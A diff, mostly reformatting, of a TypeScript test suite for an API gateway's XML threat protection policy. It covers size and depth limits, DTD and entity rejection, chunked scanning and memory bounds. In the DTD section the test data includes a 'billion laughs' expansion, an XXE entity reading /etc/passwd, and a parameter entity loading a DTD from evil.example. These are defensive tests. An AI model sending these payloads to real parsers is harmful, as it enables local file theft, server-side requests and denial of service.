@@ -2,11 +2,14 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { Exchange, Reply } from '../../src/policies/sdk/index.js';
 import { type XmlThreatProtectionConfig, xmlThreatProtection } from '../../src/policies/xml-threat-protection/index.js';
-import { type XmlLimits, XmlLimitsScanner, compileXmlLimits } from '../../src/policies/xml-threat-protection/xml-limits-scanner.js';
+import {
+  type XmlLimits,
+  XmlLimitsScanner,
+  compileXmlLimits,
+} from '../../src/policies/xml-threat-protection/xml-limits-scanner.js';
 import { compileChain } from '../helpers/chain.js';
 import { bufferExchange } from '../helpers/exchange.js';
 import { LiveHeapGrowth } from '../helpers/heap.js';
-
 
 const UNLIMITED: XmlThreatProtectionConfig = {
   maxNodeDepth: -1,
@@ -18,7 +21,9 @@ const UNLIMITED: XmlThreatProtectionConfig = {
 };
 
 /** The policy compiled into a chain as the gateway compiles it; request() is what the chain answered (undefined: it went upstream). */
-async function policy(config: Partial<XmlThreatProtectionConfig>): Promise<{ request(exchange: Exchange): Promise<Reply | undefined> }> {
+async function policy(
+  config: Partial<XmlThreatProtectionConfig>,
+): Promise<{ request(exchange: Exchange): Promise<Reply | undefined> }> {
   const chain = await compileChain({ type: xmlThreatProtection.type, config: { ...UNLIMITED, ...config } });
   return {
     async request(exchange) {
@@ -30,7 +35,12 @@ async function policy(config: Partial<XmlThreatProtectionConfig>): Promise<{ req
 
 type ReplyBody = { error: string; limit?: string; max?: number; at: number };
 
-async function send(config: Partial<XmlThreatProtectionConfig>, body: Buffer | string, chunkSize?: number, contentType = 'application/xml') {
+async function send(
+  config: Partial<XmlThreatProtectionConfig>,
+  body: Buffer | string,
+  chunkSize?: number,
+  contentType = 'application/xml',
+) {
   const exchange = bufferExchange(body, { contentType, ...(chunkSize === undefined ? {} : { chunkSize }) });
   const reply = await (await policy(config)).request(exchange);
   return { reply, body: reply?.body as ReplyBody | undefined, exchange };
@@ -57,22 +67,30 @@ function scanPieces(limits: XmlLimits, bytes: Buffer, cuts: number[]) {
 describe('xml-threat-protection: which requests are inspected', () => {
   const strict = { maxNodeDepth: 1 };
 
-  it.each(['application/xml', 'text/xml', 'application/xml; charset=utf-8', 'TEXT/XML', 'application/soap+xml', 'application/atom+xml'])(
-    'inspects %s',
-    async (contentType) => {
-      const { reply } = await send(strict, '<a><b/></a>', undefined, contentType);
-      expect(reply?.status).toBe(400);
-    },
-  );
+  it.each([
+    'application/xml',
+    'text/xml',
+    'application/xml; charset=utf-8',
+    'TEXT/XML',
+    'application/soap+xml',
+    'application/atom+xml',
+  ])('inspects %s', async (contentType) => {
+    const { reply } = await send(strict, '<a><b/></a>', undefined, contentType);
+    expect(reply?.status).toBe(400);
+  });
 
-  it.each(['application/json', 'text/plain', 'text/html', 'application/xml-dtd', 'text/xml-external-parsed-entity', 'application/+xml'])(
-    'lets %s pass untouched',
-    async (contentType) => {
-      const { reply, exchange } = await send(strict, '<!DOCTYPE x><a><b/></a>', undefined, contentType);
-      expect(reply).toBeUndefined();
-      expect(exchange.consumed).toBe(0);
-    },
-  );
+  it.each([
+    'application/json',
+    'text/plain',
+    'text/html',
+    'application/xml-dtd',
+    'text/xml-external-parsed-entity',
+    'application/+xml',
+  ])('lets %s pass untouched', async (contentType) => {
+    const { reply, exchange } = await send(strict, '<!DOCTYPE x><a><b/></a>', undefined, contentType);
+    expect(reply).toBeUndefined();
+    expect(exchange.consumed).toBe(0);
+  });
 
   it('lets a request without Content-Type pass', async () => {
     expect(await (await policy(strict)).request(bufferExchange('<!DOCTYPE x>'))).toBeUndefined();
@@ -116,8 +134,18 @@ describe('xml-threat-protection: each limit at and over its value', () => {
       limit: 'maxAttributeCountPerElement',
       max: 2,
       // Reference: "namespace declarations are not counted as attributes".
-      at: ['<a x="1" y=\'2\'/>', '<a x="1" y="2"><b x="1" y="2"/><b z="3"/></a>', '<a xmlns="urn:x" xmlns:p="urn:p" xmlns:q="urn:q" p:x="1" y="2"/>', '<a xmlns = "urn:x" xmlnsx="1"/>'],
-      over: ['<a x="1" y="2" z="3"/>', '<a><b x="1" y="2" z="3"></b></a>', '<a xmlns="urn:x" xmlns:p="urn:p" p:x="1" p:y="2" z="3"/>', '<a xmlnsx="1" xmlnsy="2" xmlns-z="3"/>'],
+      at: [
+        '<a x="1" y=\'2\'/>',
+        '<a x="1" y="2"><b x="1" y="2"/><b z="3"/></a>',
+        '<a xmlns="urn:x" xmlns:p="urn:p" xmlns:q="urn:q" p:x="1" y="2"/>',
+        '<a xmlns = "urn:x" xmlnsx="1"/>',
+      ],
+      over: [
+        '<a x="1" y="2" z="3"/>',
+        '<a><b x="1" y="2" z="3"></b></a>',
+        '<a xmlns="urn:x" xmlns:p="urn:p" p:x="1" p:y="2" z="3"/>',
+        '<a xmlnsx="1" xmlnsy="2" xmlns-z="3"/>',
+      ],
     },
     {
       limit: 'maxChildCount',
@@ -137,13 +165,33 @@ describe('xml-threat-protection: each limit at and over its value', () => {
         '<a>abcde<!--x-->abcde</a>',
         '<a long="attribute values are not text"/>',
       ],
-      over: ['<a>hello!</a>', '<a>&lt;&amp;&#x1F600;bc</a>', '<a>é😀abc</a>', '<a>ab<![CDATA[cdef]]></a>', '<a><![CDATA[abc]]>def</a>', '<a><b/>abcdef</a>'],
+      over: [
+        '<a>hello!</a>',
+        '<a>&lt;&amp;&#x1F600;bc</a>',
+        '<a>é😀abc</a>',
+        '<a>ab<![CDATA[cdef]]></a>',
+        '<a><![CDATA[abc]]>def</a>',
+        '<a><b/>abcdef</a>',
+      ],
     },
     {
       limit: 'maxAttributeLength',
       max: 3,
-      at: ['<a x="abc"/>', '<a x="&quot;\'b"/>', "<a y='\"\"\"'/>", '<a x="é😀"/>', '<a x=""/>', '<a>text longer than three</a>'],
-      over: ['<a x="abcd"/>', '<a x="&quot;\'bc"/>', '<a x="abc" y="abcd"/>', '<a x="😀😀"/>', '<a><b x="&#65;&#66;&#67;&#68;"/></a>'],
+      at: [
+        '<a x="abc"/>',
+        '<a x="&quot;\'b"/>',
+        '<a y=\'"""\'/>',
+        '<a x="é😀"/>',
+        '<a x=""/>',
+        '<a>text longer than three</a>',
+      ],
+      over: [
+        '<a x="abcd"/>',
+        '<a x="&quot;\'bc"/>',
+        '<a x="abc" y="abcd"/>',
+        '<a x="😀😀"/>',
+        '<a><b x="&#65;&#66;&#67;&#68;"/></a>',
+      ],
     },
     {
       limit: 'maxCommentLength',
@@ -193,7 +241,8 @@ describe('xml-threat-protection: DTDs and entities', () => {
     ']>',
     '<lolz>&lol9;</lolz>',
   ].join('\n');
-  const xxe = '<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>\n<foo>&xxe;</foo>';
+  const xxe =
+    '<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>\n<foo>&xxe;</foo>';
   const parameterEntity = '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><r/>';
 
   it.each([
@@ -220,11 +269,14 @@ describe('xml-threat-protection: DTDs and entities', () => {
     expect(exchange.consumed).toBe(16 * 1024);
   });
 
-  it.each(['<a>&xxe;</a>', '<a x="&lol9;"/>', '<a>&ltx;</a>', '<a>&quote;</a>'])('rejects the undefined entity in %s', async (body) => {
-    const { reply, body: replyBody } = await send({}, body);
-    expect(reply?.status).toBe(400);
-    expect(replyBody?.error).toMatch(/^invalid XML body at byte \d+: malformed or undefined entity reference/);
-  });
+  it.each(['<a>&xxe;</a>', '<a x="&lol9;"/>', '<a>&ltx;</a>', '<a>&quote;</a>'])(
+    'rejects the undefined entity in %s',
+    async (body) => {
+      const { reply, body: replyBody } = await send({}, body);
+      expect(reply?.status).toBe(400);
+      expect(replyBody?.error).toMatch(/^invalid XML body at byte \d+: malformed or undefined entity reference/);
+    },
+  );
 });
 
 describe('xml-threat-protection: malformed bodies', () => {
@@ -316,14 +368,16 @@ type XmlNode =
   | { kind: 'cdata'; value: string }
   | { kind: 'comment'; value: string };
 
-const chars = fc.constantFrom(...'ab <>&"\'é😀\t\n]-'.match(/./gsu) ?? []);
+const chars = fc.constantFrom(...('ab <>&"\'é😀\t\n]-'.match(/./gsu) ?? []));
 const content = fc.string({ unit: chars, maxLength: 8 });
 const xmlNode = fc.letrec<{ node: XmlNode; element: XmlNode }>((tie) => ({
   node: fc.oneof(
     { depthSize: 'small', withCrossShrink: true },
     content.map((value) => ({ kind: 'text' as const, value })),
     content.filter((value) => !value.includes(']]>')).map((value) => ({ kind: 'cdata' as const, value })),
-    content.filter((value) => !value.includes('--') && !value.endsWith('-')).map((value) => ({ kind: 'comment' as const, value })),
+    content
+      .filter((value) => !value.includes('--') && !value.endsWith('-'))
+      .map((value) => ({ kind: 'comment' as const, value })),
     tie('element'),
   ),
   element: fc.record({
@@ -445,18 +499,28 @@ describe('xml-threat-protection: chunk boundaries', () => {
   });
 
   it('gives the same verdict whole and chunked for mutated documents', () => {
-    const mutation = fc.tuple(fc.nat(), fc.constantFrom(...'<>/!?-[]&;#x"\'= aé'.split('')), fc.constantFrom('insert', 'delete', 'replace'));
+    const mutation = fc.tuple(
+      fc.nat(),
+      fc.constantFrom(...'<>/!?-[]&;#x"\'= aé'.split('')),
+      fc.constantFrom('insert', 'delete', 'replace'),
+    );
     fc.assert(
-      fc.property(limitsConfig, xmlNode, fc.array(mutation, { maxLength: 3 }), fc.array(fc.nat(), { maxLength: 8 }), (config, root, mutations, rawCuts) => {
-        let text = serialize(root);
-        for (const [position, char, kind] of mutations) {
-          const p = position % (text.length + 1);
-          text = text.slice(0, p) + (kind === 'delete' ? '' : char) + text.slice(kind === 'insert' ? p : p + 1);
-        }
-        const bytes = Buffer.from(text);
-        const limits = compile(config);
-        expect(scanPieces(limits, bytes, cutsIn(bytes.length, rawCuts))).toEqual(scanPieces(limits, bytes, []));
-      }),
+      fc.property(
+        limitsConfig,
+        xmlNode,
+        fc.array(mutation, { maxLength: 3 }),
+        fc.array(fc.nat(), { maxLength: 8 }),
+        (config, root, mutations, rawCuts) => {
+          let text = serialize(root);
+          for (const [position, char, kind] of mutations) {
+            const p = position % (text.length + 1);
+            text = text.slice(0, p) + (kind === 'delete' ? '' : char) + text.slice(kind === 'insert' ? p : p + 1);
+          }
+          const bytes = Buffer.from(text);
+          const limits = compile(config);
+          expect(scanPieces(limits, bytes, cutsIn(bytes.length, rawCuts))).toEqual(scanPieces(limits, bytes, []));
+        },
+      ),
       { numRuns: 1500 },
     );
   });
@@ -474,7 +538,9 @@ describe('xml-threat-protection: bounded work and memory', () => {
   });
 
   it('scans a large valid body with bounded heap', async () => {
-    const item = Buffer.from('<item id="12345" kind="ordinary"><name>a fairly ordinary name &amp; é</name><!--n--><![CDATA[x]]></item>');
+    const item = Buffer.from(
+      '<item id="12345" kind="ordinary"><name>a fairly ordinary name &amp; é</name><!--n--><![CDATA[x]]></item>',
+    );
     const open = Buffer.from('<?xml version="1.0"?><items>');
     const close = Buffer.from('</items>');
     const count = Math.floor((8 * 1024 * 1024) / item.length);
@@ -486,7 +552,13 @@ describe('xml-threat-protection: bounded work and memory', () => {
 
     // The live heap every 16 chunks of 64 KiB, while the scanner holds its state.
     const heap = new LiveHeapGrowth();
-    const exchange = bufferExchange(body, { contentType: 'application/xml', chunkSize: 64 * 1024, onChunk: (i) => { if (i % 16 === 0) heap.sample(); } });
+    const exchange = bufferExchange(body, {
+      contentType: 'application/xml',
+      chunkSize: 64 * 1024,
+      onChunk: (i) => {
+        if (i % 16 === 0) heap.sample();
+      },
+    });
     const reply = await handler.request(exchange);
     heap.sample();
     const grown = heap.peak;
